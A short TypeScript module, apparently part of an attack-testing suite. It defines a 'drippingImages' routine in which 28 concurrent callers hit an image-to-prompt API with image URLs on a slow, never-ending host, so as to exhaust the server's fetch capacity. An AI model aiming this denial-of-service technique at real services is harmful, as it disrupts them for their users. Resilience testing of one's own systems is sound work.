import type { AttackReport, AttackTarget } from './attack.ts'
import { callRepeatedly } from './call-repeatedly.ts'

const callers = 28

/** Addresses of a host that never comes to an end: each holds a place until its time is over. */
export function drippingImages(target: AttackTarget): Promise<AttackReport> {
  return callRepeatedly(target, {
    pathOf: () => '/api/v1/prompts/image-to-prompt',
    callers,
    bodyOf: (number) => JSON.stringify({ image_url: `${target.drippingUrl}/${number}.jpg` }),
  })
}
